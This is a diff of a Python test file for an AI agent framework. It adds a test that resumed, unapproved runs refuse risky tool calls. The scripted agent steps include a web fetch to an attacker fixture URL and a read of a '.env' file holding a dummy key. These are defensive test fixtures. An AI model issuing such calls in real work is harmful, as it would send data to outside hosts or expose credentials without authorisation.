@@ -6,12 +6,13 @@ import asyncio
 from pathlib import Path
 
 import pytest
-from attacking import Attacker, events_of, retinue_in
+from attacking import Attacker, events_of, results, retinue_in
 
 from retinue import AgentSpec, tool
 from retinue.engine.answers import Answer
 from retinue.engine.record import Record
-from retinue.events import ChildEnded, MessageReceived, RunStarted, ToolCalled
+from retinue.events import ChildEnded, Event, MessageReceived, RunStarted, StepStarted, ToolCalled
+from retinue.store.memory import MemoryStore
 from retinue.testing import call
 
 TOOLS = ("run_code", "mark", "web_fetch", "leaf")
@@ -54,6 +55,35 @@ async def test_what_code_does_while_another_call_waits_for_a_person_is_replayed(
     assert all("what mark returned" not in event.private for event in handed)
     (marked,) = [e for e in log if isinstance(e, ToolCalled) and e.name == "mark"]
     assert marked.private == ("what mark returned",)
+    assert replayed.diff == ""
+
+
+@pytest.mark.parametrize("what", ["an address", "a file of secrets"])
+async def test_who_takes_a_run_up_without_approving_all_is_replayed_without_it(
+    project: Path, attacker: Attacker, what: str
+) -> None:
+    (project / ".env").write_text("KEY=abcdef123456")
+    second = {
+        "an address": ("web_fetch", "url", f"{attacker.url}/x?d=1"),
+        "a file of secrets": ("read", "path", ".env"),
+    }
+    name, argument, value = second[what]
+    steps = [call("read", "c1", path="notes.md"), call(name, "c2", **{argument: value}), "done"]
+    root = AgentSpec(name="root", description="r", prompt="You work.", tools=("read", "web_fetch"))
+    async with retinue_in(project, attacker, steps, agents=[root]) as retinue:
+        begun = await retinue.run("root", "go", yes=True)
+        log = await events_of(retinue, begun.run_id)
+    cut = next(at for at, e in enumerate(log) if isinstance(e, StepStarted) and e.step == 2)
+    store = MemoryStore()
+    await store.append([event for event in log[:cut] if isinstance(event, Event)])
+    async with retinue_in(
+        project, attacker, steps[1:], db=store, agents=[root], answering="refuse"
+    ) as retinue:
+        await retinue.resume(begun.run_id, yes=False, take_over=True)
+        await asyncio.wait_for(retinue.wait(begun.run_id), 15)
+        refused = results(await events_of(retinue, begun.run_id))[-1]
+        replayed = await retinue.replay(begun.run_id)
+    assert refused.not_run == "unattended"
     assert replayed.diff == ""
 
 
